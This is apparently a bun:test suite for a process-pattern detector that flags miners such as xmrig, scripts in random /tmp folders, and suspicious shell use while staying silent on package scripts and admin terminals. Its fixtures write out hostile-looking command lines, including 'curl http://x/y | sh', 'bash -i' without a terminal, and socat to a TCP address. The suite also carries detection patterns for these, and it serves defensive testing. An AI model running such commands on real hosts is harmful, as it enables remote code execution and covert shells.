// Whom the site's wide lists name, and whom they must not: what verified programs, packages and administrators do.
import { describe, expect, test } from "bun:test";
import { hostFixture } from "../../context/host.fixture.ts";
import { createHints } from "../site/hints.ts";
import { processListsOf, WIDE_LISTS } from "../site/process_lists.fixture.ts";
import { createSitePatternsDetector } from "./site_patterns.ts";

const wide = processListsOf(WIDE_LISTS);
const pid50 = (exe: string, argv: readonly string[], more = "uid 0") =>
  `pid 50 ppid 1 ${more} exe ${exe}\n  argv ${JSON.stringify(argv)}`;
const sh = (...argv: readonly string[]) => pid50("/usr/bin/dash", ["sh", ...argv]);

function statements(host: string, trusted: readonly number[] = []): readonly string[] {
  const events = createSitePatternsDetector(() => wide).sweep(hostFixture(host, { trusted }).view);
  return events.map(({ logsource, fields }) =>
    [logsource.category, fields["pattern.subject"], fields["pattern.text"]].join(" | "),
  );
}

const SILENT: readonly [sentence: string, host: string][] = [
  ["git show", pid50("/usr/bin/git", ["git", "show"])],
  ["ssh with a key", pid50("/usr/bin/ssh", ["ssh", "-i", "key", "host"])],
  ["truncate", pid50("/usr/bin/truncate", ["truncate", "-s", "0", "f"])],
  ["truncate by a shell's code", sh("-c", "truncate -s 0 f")],
  ["NetworkManager", pid50("/usr/sbin/NetworkManager", ["/usr/sbin/NetworkManager", "--no-daemon"])],
  ["a maintainer script", sh("-e", "/var/lib/dpkg/info/x.postinst", "configure", "socat")],
  ["a script of cron.daily", sh("/etc/cron.daily/clean.sh")],
  ["apt installs a tool of the list", pid50("/usr/bin/apt-get", ["apt-get", "install", "socat"])],
  ["grep looks for a miner", pid50("/usr/bin/grep", ["grep", "-r", "xmrig", "/var/log"])],
  ["an editor opens a file about it", pid50("/usr/bin/vim.basic", ["vim", "reverse_shell.md"], "uid 1000")],
  ["a person's own program called determine", pid50("/home/alice/bin/determine", ["determine"], "uid 1000")],
  ["a person's own program called marshal", pid50("/home/alice/bin/marshal", ["marshal"], "uid 1000")],
  ["python3 with code", pid50("/usr/bin/python3.11", ["python3", "-c", "print(1)"])],
  [
    "an administrator's bash -i at a terminal",
    `${pid50("/usr/bin/bash", ["bash", "-i"], "uid 0 tty 34816")}\n  fd 0 rw /dev/pts/0`,
  ],
  ["a script of the system, whatever its name", pid50("/usr/bin/python3.11", ["python3", "/usr/share/x/tool.py"])],
  [
    "a package's configuration script in /tmp",
    `pid 40 ppid 1 uid 0 exe /usr/bin/dpkg\n  argv ["dpkg","--configure","-a"]
pid 50 ppid 40 uid 0 exe /usr/bin/dash\n  argv ["sh","/tmp/abcdefghij.config"]`,
  ],
];

const TOLD: readonly [sentence: string, host: string, statements: readonly string[]][] = [
  ["a miner by its file", pid50("/home/alice/xmrig", ["./xmrig"], "uid 1000"), ["name_pattern | name | xmrig"]],
  [
    "a program in a directory of ten characters",
    pid50("/tmp/abcdefghij/x", ["x"], "uid 1000"),
    ["name_pattern | executable | /(tmp|dev/shm)/[a-z0-9]{10}"],
  ],
  ["a download into a shell", sh("-c", "curl http://x/y | sh"), ["shell_indicator | command line | curl <URL> | sh"]],
  ["bash -i without a terminal", pid50("/usr/bin/bash", ["bash", "-i"]), ["shell_indicator | command line | bash -i"]],
  [
    "bash -i on a terminal that is not its input",
    `${pid50("/usr/bin/bash", ["bash", "-i"], "uid 0 tty 34816")}\n  fd 0 r pipe:[9]`,
    ["shell_indicator | command line | bash -i"],
  ],
  [
    "a script that anybody could have put there",
    pid50("/usr/bin/bash", ["bash", "/home/alice/run.sh"], "uid 1000"),
    ["name_pattern | script | \\.(sh|py)$"],
  ],
  [
    "a tool that only carries bytes, though the system's own",
    pid50("/usr/bin/socat", ["socat", "-", "tcp:192.0.2.1:1"]),
    ["name_pattern | name | socat"],
  ],
  [
    "a script of /etc in a mount namespace of its own",
    pid50("/usr/bin/dash", ["sh", "/etc/x.sh"], "uid 0 mount 7"),
    ["name_pattern | script | \\.(sh|py)$"],
  ],
  [
    "the code of a web server's shell below no package manager",
    `pid 40 ppid 1 uid 33 exe /home/alice/dpkg\npid 50 ppid 40 uid 0 exe /usr/bin/dash\n  argv ["sh","-c","xmrig"]`,
    ["name_pattern | command line | xmrig"],
  ],
];

describe("is silent on", () => {
  test.each(SILENT)("%s", (_sentence, host) => {
    expect(statements(host)).toEqual([]);
  });

  test("a program that is trusted by name", () => {
    expect(statements(pid50("/usr/bin/socat", ["socat"]), [50])).toEqual([]);
  });
});

describe("tells of", () => {
  test.each(TOLD)("%s", (_sentence, host, expected) => {
    expect(statements(host)).toEqual([...expected]);
  });

  test("each process once, by the lists in force when it is new, naming key and actor", () => {
    let lists = processListsOf({});
    const detector = createSitePatternsDetector(() => lists);
    const first = detector.sweep(hostFixture(pid50("/home/alice/xmrig", ["x"], "uid 1000")).view);
    lists = wide;
    const host = hostFixture(
      `${pid50("/home/alice/xmrig", ["x"], "uid 1000")}\npid 51 ppid 1 uid 1000 exe /home/alice/xmrig`,
    );
    const second = detector.sweep(host.view);
    expect([first.length, second.map((event) => event.process?.pid), detector.sweep(host.view).length]).toEqual([
      0,
      [51],
      0,
    ]);
    expect(second[0]?.fields["pattern.key"]).toBe("SUSPICIOUS_PATTERNS");
    expect(second[0]?.subject?.actors.map((ref) => ref.pid)).toEqual([51]);
  });
});

describe("hints", () => {
  const hintsOf = createHints(() => wide);
  const ROWS: readonly [sentence: string, host: string, hints: readonly string[]][] = [
    ["of a verified program", pid50("/usr/bin/grep", ["grep", "xmrig"]), ["SUSPICIOUS_PATTERNS xmrig"]],
    [
      "of both lists, three at most",
      sh("-c", "curl http://x/y | sh; xmrig; cryptominer; socat"),
      ["SUSPICIOUS_PATTERNS cryptomine", "SUSPICIOUS_PATTERNS xmrig", "SUSPICIOUS_PATTERNS socat"],
    ],
    ["of a text that says nothing", pid50("/usr/bin/git", ["git", "show"]), []],
    ["of a kernel thread", "pid 50 ppid 2 uid 0 name xmrig", []],
  ];
  test.each(ROWS)("%s", (_sentence, host, hints) => {
    expect(hintsOf(hostFixture(host).process(50))).toEqual([...hints]);
  });

  test("are made anew for other lists and for another file with the same arguments", () => {
    let lists = wide;
    const hints = createHints(() => lists);
    const process = hostFixture(pid50("/home/alice/xmrig", ["x"])).process(50);
    expect(hints(process).length).toBe(1);
    expect(hints(process)).toBe(hints(process));
    const { executable } = process;
    if (executable === undefined) throw new Error("the fixture has no executable");
    expect(hints({ ...process, name: "x", executable: { ...executable, path: "/home/alice/x" } })).toEqual([]);
    lists = processListsOf({});
    expect(hints(process)).toEqual([]);
  });
});
